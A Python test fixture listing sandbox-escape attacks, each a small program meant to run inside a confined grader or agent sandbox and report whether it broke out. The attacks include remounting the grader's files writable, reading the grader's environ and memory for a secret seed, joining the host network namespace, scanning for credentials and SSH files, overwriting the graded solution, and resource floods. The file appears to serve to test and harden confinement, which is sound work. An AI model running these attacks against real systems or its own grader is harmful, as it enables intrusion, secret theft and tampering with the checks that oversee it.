"""Attacks on the sandbox, written as a capable attacker running as root would write them, each a program run
inside a confined process (the grader's candidate sandbox, or an agent's).

Every program ends by printing one JSON line, {"effect": bool, "detail": ...}: whether it got what it was after.
That line is the attack's own account; each test also checks from outside what it can (a file on the host, a
listener that counts connections, the process table). `HOST_*` placeholders are filled by the test with things
of the host the attack aims at (a listener's port, a socket's path, a pid, a file)."""

from __future__ import annotations

from dataclasses import dataclass

PRELUDE = r'''
import ctypes, errno, json, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def report(got, detail=""):
    print(json.dumps({"effect": bool(got), "detail": str(detail)[:400]}), flush=True)
    os._exit(0)
def sys_call(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, ctypes.get_errno()
def err(e):
    return errno.errorcode.get(e, str(e))
'''


@dataclass(frozen=True)
class Attack:
    name: str
    route: str          # the route: capability, namespace, host socket, secret, tracing, flood, file
    code: str           # runs after PRELUDE; ends with report(...)
    x86_64_only: bool = False


ATTACKS = [
    Attack("capabilities_held", "capability", r'''
s = open("/proc/self/status").read()
caps = {l.split(":")[0]: l.split(":")[1].strip() for l in s.splitlines() if l.startswith("Cap")}
report(any(v.strip("0") for v in caps.values()) or os.geteuid() == 0, f"uid {os.geteuid()} {caps}")
'''),
    Attack("remount_grader_rw", "capability", r'''
target = HOST_GRADER_FILE
point = os.path.dirname(target)
while not os.path.ismount(point):
    point = os.path.dirname(point)
r = libc.mount(None, point.encode(), None, 32 | 4096, None)  # MS_REMOUNT | MS_BIND, without MS_RDONLY
why = f"remount {point}: {err(ctypes.get_errno())}"
try:
    open(target, "a").write("\n# written from a sandbox\n")
    report(True, "appended to the grader's module")
except OSError as exc:
    report(False, f"mount {r} {why}; write {exc}")
'''),
    Attack("unmount_secret_cover", "secret", r'''
r = libc.umount2(HOST_SECRET_FILE.encode(), 2)  # MNT_DETACH
why = err(ctypes.get_errno())
try:
    text = open(HOST_SECRET_FILE).read()
except OSError as exc:
    text = ""
report("SEED" in text, f"umount {r} {why}; read {text!r}")
'''),
    Attack("unmount_proc_see_host", "namespace", r'''
r = libc.umount2(b"/proc", 2)
why = err(ctypes.get_errno())
pids = [p for p in os.listdir("/proc") if p.isdigit()]
seen = os.path.exists(f"/proc/{HOST_PID}/environ") and open(f"/proc/{HOST_PID}/cmdline", "rb").read()
report(bool(seen) or len(pids) > 8, f"umount {r} {why}; {len(pids)} pids")
'''),
    Attack("setns_host_network", "namespace", r'''
libc.umount2(b"/proc", 2)  # the host's /proc may lie under the sandbox's
try:
    fd = os.open(f"/proc/{HOST_PID}/ns/net", os.O_RDONLY)
except OSError:
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
r = libc.setns(fd, 0)
why = f"setns {r} {err(ctypes.get_errno())}"
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("127.0.0.1", HOST_PORT))
    report(True, why + "; connected to the host's loopback listener")
except OSError as exc:
    report(r == 0, f"{why}; {exc}")
'''),
    Attack("read_grader_memory_and_environ", "secret", r'''
libc.umount2(b"/proc", 2)
got = []
try:
    env = open(f"/proc/{HOST_PID}/environ", "rb").read()
    got.append(f"environ {len(env)} bytes, seed visible: {b'KERNELBENCH_SECRET_SEED' in env}")
except OSError as exc:
    pass
try:
    maps = open(f"/proc/{HOST_PID}/maps").read().splitlines()
    start = int(next(l for l in maps if " r" in l).split("-")[0], 16)
    with open(f"/proc/{HOST_PID}/mem", "rb") as mem:
        mem.seek(start)
        got.append(f"memory {len(mem.read(4096))} bytes")
except (OSError, StopIteration, ValueError):
    pass
report(bool(got), got or "the grader's process is out of sight")
'''),
    Attack("unshare_user_namespace", "namespace", r'''
r = libc.unshare(0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS: capabilities again, in a new namespace
report(r == 0, f"unshare {r} {err(ctypes.get_errno())}")
'''),
    Attack("clone_new_namespace", "namespace", r'''
r, e = sys_call(56, 0x10000000 | 17, 0, 0, 0, 0)  # clone(CLONE_NEWUSER | SIGCHLD)
if r == 0:
    os._exit(0)
report(r > 0, f"clone {r} {err(e)}")
''', x86_64_only=True),
    Attack("clone3_new_namespace", "namespace", r'''
args = struct.pack("QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0)  # clone_args{flags=CLONE_NEWUSER, exit_signal}
buf = ctypes.create_string_buffer(args)
r, e = sys_call(435, buf, len(args))
if r == 0:
    os._exit(0)
report(r > 0, f"clone3 {r} {err(e)}")
''', x86_64_only=True),
    Attack("open_by_handle_at", "file", r'''
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
h = Handle(); h.bytes = 128
mount_id = ctypes.c_int()
r1, e1 = sys_call(303, -100, b"/usr", ctypes.byref(h), ctypes.byref(mount_id), 0)  # name_to_handle_at
fd, e2 = sys_call(304, os.open("/usr", os.O_RDONLY), ctypes.byref(h), 0)       # open_by_handle_at
report(fd >= 0, f"name_to_handle_at {r1} {err(e1)}; open_by_handle_at {fd} {err(e2)}")
''', x86_64_only=True),
    Attack("ptrace_sandbox_init", "tracing", r'''
r = libc.ptrace(16, 1, None, None)  # PTRACE_ATTACH to the sandbox's init: every stage would hang
report(r == 0, f"ptrace {r} {err(ctypes.get_errno())}")
'''),
    Attack("process_vm_readv_init", "tracing", r'''
buf = ctypes.create_string_buffer(64)
class IOV(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local, remote = IOV(ctypes.cast(buf, ctypes.c_void_p), 64), IOV(0x400000, 64)
r = libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
report(r > 0, f"process_vm_readv {r} {err(ctypes.get_errno())}")
'''),
    Attack("read_init_memory", "tracing", r'''
try:
    with open("/proc/1/mem", "rb") as f:
        f.seek(0x400000)
        f.read(16)
    report(True, "read /proc/1/mem")
except OSError as exc:
    report(False, exc)
'''),
    Attack("signal_host_process", "namespace", r'''
try:
    os.kill(HOST_PID, 0)
    report(True, "the grader's pid answered")
except OSError as exc:
    report(False, exc)
'''),
    Attack("tcp_host_loopback", "host socket", r'''
s = socket.socket()
s.settimeout(2)
try:
    s.connect(("127.0.0.1", HOST_PORT))
    s.sendall(b"sandbox")
    report(True, "connected to the host's listener")
except OSError as exc:
    report(False, exc)
'''),
    Attack("unix_abstract_host", "host socket", r'''
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0" + HOST_ABSTRACT)
    s.sendall(b"sandbox")
    report(True, "connected to the host's abstract socket")
except OSError as exc:
    report(False, exc)
'''),
    Attack("unix_path_host", "host socket", r'''
got = []
for path in HOST_SOCKETS:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        s.sendall(b"sandbox")
        got.append(path)
    except OSError as exc:
        pass
report(bool(got), got or "no host socket reachable")
'''),
    Attack("environment_secrets", "secret", r'''
found = sorted(k for k in os.environ if any(w in k for w in ("KEY", "TOKEN", "SECRET", "PASSWORD")))
report(bool(found), found)
'''),
    Attack("read_home_and_runs", "file", r'''
seen = []
for path in ("/root/.ssh", "/root/.bash_history", "/home", HOST_RUNS, HOST_PROBLEMS, "/run", "/var/run"):
    try:
        seen.append((path, os.listdir(path)[:3])) if os.path.isdir(path) else open(path).read(1) and seen.append(path)
    except OSError:
        pass
report(any(s[1] if isinstance(s, tuple) else s for s in seen), seen)
'''),
    Attack("write_judge_folder", "file", r'''
try:
    os.makedirs(os.path.join(HOST_WORKDIR, "judge", "worker_result.json"))
    report(True, "squatted the judge's reply path")
except OSError as exc:
    report(False, exc)
'''),
    Attack("rewrite_solution_copy", "file", r'''
try:
    open(os.path.join(HOST_WORKDIR, "solution", "solution.py"), "a").write("import os\n")
    report(True, "rewrote the graded copy")
except OSError as exc:
    report(False, exc)
'''),
    Attack("replace_solution_copy", "file", r'''
folder = os.path.join(HOST_WORKDIR, "solution")
done = []
for how in ("rename", "unlink", "chmod"):
    try:
        if how == "rename":
            open(os.path.join(folder, "evil.py"), "w").write("import os\n")
            os.rename(os.path.join(folder, "evil.py"), os.path.join(folder, "solution.py"))
        elif how == "unlink":
            os.unlink(os.path.join(folder, "kernels.cu"))
        else:
            os.chmod(os.path.join(folder, "solution.py"), 0o666)
        done.append(how)
    except OSError as exc:
        pass
report(bool(done), f"changed the solution folder's files by {done}")
'''),
    Attack("keyctl", "kernel", r'''
r, e = sys_call(250, 0, -3, 0, 0, 0)  # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING)
report(r >= 0, f"keyctl {r} {err(e)}")
''', x86_64_only=True),
    Attack("bpf", "kernel", r'''
attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 8, 1), 128)  # BPF_MAP_CREATE, array
r, e = sys_call(321, 0, attr, 128)
report(r >= 0, f"bpf {r} {err(e)}")
''', x86_64_only=True),
    Attack("perf_event_open", "kernel", r'''
attr = ctypes.create_string_buffer(struct.pack("IIQ", 1, 128, 0), 128)  # PERF_TYPE_SOFTWARE, cpu clock
r, e = sys_call(298, attr, 1, -1, -1, 0)  # pid 1: the sandbox's init
report(r >= 0, f"perf_event_open {r} {err(e)}")
''', x86_64_only=True),
    Attack("load_kernel_module", "kernel", r'''
r, e = sys_call(313, os.open("/dev/null", os.O_RDONLY), b"", 0)  # finit_module
report(r == 0 or e not in (errno.EPERM,), f"finit_module {r} {err(e)}")
''', x86_64_only=True),
    Attack("chroot_pivot", "capability", r'''
r1 = libc.chroot(b"/tmp")
e1 = ctypes.get_errno()
r2, e2 = sys_call(155, b"/tmp", b"/tmp")  # pivot_root
report(r1 == 0 or r2 == 0, f"chroot {r1} {err(e1)}; pivot_root {r2} {err(e2)}")
'''),
    Attack("become_root", "capability", r'''
r = libc.setuid(0)
report(r == 0 and os.geteuid() == 0, f"setuid {r} {err(ctypes.get_errno())}")
'''),
    Attack("mknod_device", "capability", r'''
try:
    os.mknod("/tmp/kmem", 0o600 | 0o020000, os.makedev(1, 2))
    report(True, "made a character device")
except OSError as exc:
    report(False, exc)
'''),
    Attack("write_sys", "file", r'''
path = "/sys/kernel/mm/transparent_hugepage/enabled"   # its own setting written back: harmless if it passed
try:
    current = open(path).read().split("[")[1].split("]")[0]
    open(path, "w").write(current)
    report(True, "wrote to /sys")
except (OSError, IndexError) as exc:
    report(False, exc)
'''),
    Attack("userfaultfd", "kernel", r'''
r, e = sys_call(323, 0)
report(r >= 0, f"userfaultfd {r} {err(e)}")
''', x86_64_only=True),
    Attack("memory_flood", "flood", r'''
blocks = []
try:
    for _ in range(HOST_MEMORY_GB * 2 + 2):
        blocks.append(bytearray(1 << 30))
    report(True, f"allocated {len(blocks)} GiB")
except MemoryError:
    report(False, f"MemoryError after {len(blocks)} GiB")
'''),
    Attack("process_flood", "flood", r'''
children = 0
try:
    for _ in range(HOST_PROCESSES * 2):
        if os.fork() == 0:
            import time; time.sleep(5); os._exit(0)
        children += 1
    report(True, f"forked {children}")
except OSError as exc:
    report(False, f"fork refused after {children}: {exc}")
'''),
    Attack("file_size_flood", "flood", r'''
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
try:
    with open("/tmp/big", "wb") as f:
        f.truncate(HOST_FILE_BYTES * 2)
    report(True, f"made a {HOST_FILE_BYTES * 2} byte file")
except OSError as exc:
    report(False, exc)
'''),
    Attack("shm_outside_grading", "flood", r'''
open("/dev/shm/kb-flood", "wb").write(b"x" * 4096)
report(not os.path.exists(os.path.join(HOST_WORKDIR, "shm", "kb-flood")), "where /dev/shm writes land")
'''),
    Attack("iopl_personality", "kernel", r'''
r1, e1 = sys_call(172, 3)                 # iopl
r2, e2 = sys_call(135, 0x0040000)         # personality(ADDR_NO_RANDOMIZE)
report(r1 == 0 or r2 >= 0, f"iopl {r1} {err(e1)}; personality {r2} {err(e2)}")
''', x86_64_only=True),
    Attack("reboot", "kernel", r'''
r, e = sys_call(169, 0xfee1dead, 672274793, 0x4321FEDC, 0)  # LINUX_REBOOT_CMD_CAD_OFF: harmless if it passed
report(r == 0, f"reboot {r} {err(e)}")
''', x86_64_only=True),
]

BY_NAME = {a.name: a for a in ATTACKS}
